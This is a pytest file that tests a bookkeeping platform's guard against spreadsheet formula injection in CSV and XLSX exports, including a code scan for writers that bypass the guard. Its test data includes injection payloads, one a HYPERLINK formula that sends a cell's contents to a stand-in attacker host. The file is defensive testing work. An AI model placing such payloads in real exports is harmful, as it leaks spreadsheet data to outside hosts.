"""The spreadsheet guard: text that looks like a formula stays text, numbers stay numbers, and no
module writes a CSV or an XLSX cell except through the guard."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from villagebooks.common.spreadsheet import (
    FORMULA_STARTS,
    Number,
    csv_cell,
    csv_writer,
    guard_text,
    xlsx_workbook,
)

PACKAGE = Path(__file__).resolve().parents[2]
GUARD = PACKAGE / "common" / "spreadsheet.py"
# Files the platform writes that no person opens in a spreadsheet, each with the reason.
NOT_SPREADSHEETS = {
    # The demo county's import files: the program's own text, read back by `import-vouchers`.
    "demo/generator.py": {"csv.writer"},
    # The same files split by month for the demo's clock (rows copied as read, amounts included).
    "demo/loading.py": {"csv.writer"},
}
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "@SUM(1)", "+1", "\t=1", "-2+3", "\r=1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_gets_a_quote_in_csv(text):
    assert csv_cell(text) == "'" + text
    assert guard_text(text) == "'" + text


def test_plain_text_and_numbers_are_written_as_they_are():
    assert csv_cell("道路硬化") == "道路硬化" and csv_cell(None) == "" and csv_cell("") == ""
    assert (
        csv_cell(Number("-12.50")) == "-12.50"
        and csv_cell(-3) == "-3"
        and csv_cell(Decimal("-1.5")) == "-1.5"
    )
    assert csv_cell(True) == "1"


@pytest.mark.parametrize("text", ["=1", "-1e5", "1,000.00", "-", "", " 1", "12.", "=-1"])
def test_only_a_number_can_be_marked_as_one(text):
    with pytest.raises(ValueError):
        Number(text)


def test_the_guarded_csv_round_trips():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["summary", "amount"])
    writer.writerows([[text, Number("-12.50")] for text in ATTACKS])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows[1:] == [["'" + text, "-12.50"] for text in ATTACKS]


def test_the_guarded_xlsx_keeps_text_text_and_numbers_numbers():
    workbook = xlsx_workbook()
    sheet = workbook.create_sheet("t")
    for text in ATTACKS:
        sheet.append_row([sheet.text_cell(text), sheet.number_cell(Number("-12.50"))])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    for (text_cell, amount), text in zip(cells, ATTACKS, strict=True):
        # ``\r`` is normalised to ``\n`` by XML; the cell is still a string, never a formula.
        assert text_cell.data_type == "s" and text_cell.value.replace("\n", "\r") == text.replace("\n", "\r")
        assert text_cell.quotePrefix
        assert amount.data_type == "n" and amount.value == Decimal("-12.5")


def test_a_guarded_sheet_takes_no_raw_value():
    sheet = xlsx_workbook().create_sheet("t")
    with pytest.raises(TypeError):
        sheet.append_row(["=1"])
    with pytest.raises(AttributeError):
        sheet.append(["=1"])


def _writers(path: Path) -> set[str]:
    """What the module uses that writes a CSV or an XLSX cell without the guard."""
    found = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv":
            if node.attr in ("writer", "DictWriter"):
                found.add(f"csv.{node.attr}")
        elif isinstance(node, ast.ImportFrom) and node.module:
            names = {alias.name for alias in node.names}
            if node.module == "csv" and names & {"writer", "DictWriter"}:
                found.add("csv.writer")
            # Reading a workbook (load_workbook), styles and column letters are harmless; a
            # Workbook or a Cell of one's own is a way around the guard.
            if node.module.startswith("openpyxl") and names - {"load_workbook", "get_column_letter"}:
                if node.module.startswith(("openpyxl.cell", "openpyxl.worksheet._write_only")) or names & {
                    "Workbook",
                    "Cell",
                    "WriteOnlyCell",
                }:
                    found.add(f"{node.module}: {sorted(names)}")
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name == "openpyxl" or alias.name.startswith("openpyxl.cell"):
                    found.add(f"import {alias.name}")
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            # sheet.cell(row=…, value=…) and sheet.append([...]) on a sheet that is not guarded.
            if node.func.attr in ("cell",) and any(k.arg == "value" for k in node.keywords):
                found.add(".cell(value=)")
    return found


def test_no_module_writes_a_spreadsheet_except_through_the_guard():
    bypasses = {}
    for path in PACKAGE.rglob("*.py"):
        relative = path.relative_to(PACKAGE).as_posix()
        if path == GUARD or "tests" in path.parts:
            continue
        found = _writers(path) - NOT_SPREADSHEETS.get(relative, set())
        if found:
            bypasses[relative] = sorted(found)
    assert bypasses == {}


def test_the_scan_would_see_a_bypass(tmp_path):
    # The scan itself, on the kinds of code a future writer might add.
    sample = tmp_path / "sample.py"
    sample.write_text(
        "import csv\nfrom openpyxl import Workbook\nfrom openpyxl.cell import WriteOnlyCell\n"
        "w = csv.writer(x)\nws.cell(row=1, column=1, value='=1')\n",
        encoding="utf-8",
    )
    assert _writers(sample) == {
        "csv.writer",
        "openpyxl: ['Workbook']",
        "openpyxl.cell: ['WriteOnlyCell']",
        ".cell(value=)",
    }


def test_the_guarded_starts_are_the_spreadsheets_formula_starts():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
